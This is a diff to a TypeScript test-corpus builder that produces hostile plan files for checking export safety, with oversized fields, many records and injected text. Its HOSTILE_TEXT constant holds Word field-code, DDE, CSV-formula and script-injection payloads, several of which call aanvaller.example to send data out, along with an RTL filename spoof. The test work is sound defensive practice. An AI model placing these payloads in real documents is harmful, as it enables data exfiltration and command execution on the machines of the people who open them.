@@ -8,6 +8,8 @@
 import BetterSqlite3 from 'better-sqlite3';
 import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { findSection } from '../../src/domain/plan';
+import { EXPORT_LIMITS } from '../../src/export/budget';
 import { APPLICATION_ID } from '../../src/storage/fileFormat';
 import { FORMAT_VERSION } from '../../src/storage/migrations';
 import { createPlanFile } from '../../src/storage/planFile';
@@ -22,7 +24,26 @@ export interface HostileFile {
   outcome: 'refused' | 'either';
   /** A file that must still exist, unchanged, afterwards (the victim a journal names). */
   victim?: string;
+  /** What its exports must do once it opened: be refused with a message (too much to export), or be written, inert. */
+  exports?: 'refused' | 'written';
 }
+
+/**
+ * Put after the text of every text field: markup for the print view and the web page, field codes
+ * and XML for Word, formulas for a spreadsheet, a link for every format, a direction override.
+ */
+export const HOSTILE_TEXT = [
+  '</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT \\\\aanvaller.example\\share\\x.docx"><w:r><w:t>veld</w:t></w:r></w:fldSimple><w:r><w:t>',
+  '<w:instrText> HYPERLINK "http://aanvaller.example/word" </w:instrText>',
+  '{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" }',
+  '=HYPERLINK("http://aanvaller.example/csv?"&A1)',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '<script>fetch("http://aanvaller.example/html")</script><img src=x onerror=alert(1)>',
+  ']]><!-- \u202Eexe.txt',
+].join(' ');
+
+/** The widgets whose values are free text. */
+const TEXT_WIDGETS = new Set(['text', 'longText', 'email', 'phone']);
 
 const ENDLESS = 'WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT max(x) FROM r';
 /** An expression that builds a 200 MB string every time it is evaluated. */
@@ -114,17 +135,42 @@ function journalFrom(path: string, source: string, superJournal?: string): void 
   writeFileSync(`${path}-journal`, handMadeJournal([{ number: 1, data: page }], pageCount, pageSize, superJournal));
 }
 
+/** Puts `text` after the value of every free-text field of every record and item. */
+function appendToEveryText(db: BetterSqlite3.Database, text: string): void {
+  const hostile = (section: string, data: string) => {
+    const record = JSON.parse(data) as Record<string, unknown>;
+    for (const field of findSection(section)?.fields ?? [])
+      if (TEXT_WIDGETS.has(field.widget)) record[field.name] = `${String(record[field.name] ?? '')} ${text}`.trim();
+    return JSON.stringify(record);
+  };
+  const records = db.prepare<[], { section: string; data: string }>('SELECT section, data FROM section_records').all();
+  const items = db
+    .prepare<[], { id: string; section: string; data: string }>('SELECT id, section, data FROM items')
+    .all();
+  db.transaction(() => {
+    for (const { section, data } of records)
+      db.prepare('UPDATE section_records SET data = ? WHERE section = ?').run(hostile(section, data), section);
+    for (const { id, section, data } of items)
+      db.prepare('UPDATE items SET data = ? WHERE id = ?').run(hostile(section, data), id);
+  })();
+}
+
 /** Writes the corpus into `dir` from the example plan. */
-export function buildHostileCorpus(dir: string, options: { hugeTextMb: number }): HostileFile[] {
+export function buildHostileCorpus(dir: string, options: { hugeTextMb: number; manyItems: number }): HostileFile[] {
   const base = examplePlanFile(join(dir, 'example.source'));
   const corpus: HostileFile[] = [];
   let n = 0;
-  const add = (label: string, outcome: HostileFile['outcome'], write: (path: string) => string | void) => {
+  const add = (
+    label: string,
+    outcome: HostileFile['outcome'],
+    write: (path: string) => string | void,
+    exports?: HostileFile['exports'],
+  ) => {
     const path = join(dir, `${String(n++).padStart(3, '0')}.paraat`);
     const started = Date.now();
     const victim = write(path) ?? undefined;
     if (process.env.PARAAT_CORPUS_TIMES) console.log(label, Date.now() - started);
-    corpus.push({ label, path, outcome, victim });
+    corpus.push({ label, path, outcome, victim, exports });
   };
   const crafted = (label: string, work: (db: BetterSqlite3.Database) => void) =>
     add(label, 'refused', (path) => craft(base, path, work));
@@ -240,12 +286,40 @@ export function buildHostileCorpus(dir: string, options: { hugeTextMb: number })
     copyFileSync(base, path);
     journalFrom(path, base);
   });
-  add(`${options.hugeTextMb} MB of text in one field`, 'either', (path) =>
-    craft(base, path, (db) =>
-      db
-        .prepare("UPDATE section_records SET data = json_set(data, '$.purpose', ?) WHERE section = 'organisation'")
-        .run('Doel '.repeat((options.hugeTextMb * 1024 * 1024) / 5)),
-    ),
+  add(
+    `${options.hugeTextMb} MB of text in one field`,
+    'either',
+    (path) =>
+      craft(base, path, (db) =>
+        db
+          .prepare("UPDATE section_records SET data = json_set(data, '$.purpose', ?) WHERE section = 'organisation'")
+          .run('Doel '.repeat((options.hugeTextMb * 1024 * 1024) / 5)),
+      ),
+    options.hugeTextMb * 1024 * 1024 > EXPORT_LIMITS.recordBytes ? 'refused' : 'written',
+  );
+  add(
+    `${options.manyItems.toLocaleString('en')} incidents in the log`,
+    'either',
+    (path) =>
+      craft(base, path, (db) =>
+        db
+          .prepare(
+            `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
+             INSERT INTO items (id, section, position, data, created_at, updated_at)
+             SELECT 'many-' || i, 'incidents', 100000 + i,
+                    json_object('number', i, 'title', 'Melding ' || i, 'status', 'closed', 'description', 'Storing aan de printer op de tweede verdieping.'),
+                    '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:00.000Z'
+             FROM n`,
+          )
+          .run(options.manyItems),
+      ),
+    options.manyItems > EXPORT_LIMITS.items ? 'refused' : 'written',
+  );
+  add(
+    'markup, Word field codes and formulas in every text field',
+    'either',
+    (path) => craft(base, path, (db) => appendToEveryText(db, HOSTILE_TEXT)),
+    'written',
   );
   add('JSON nested 100,000 deep in a record', 'either', (path) =>
     craft(base, path, (db) => {
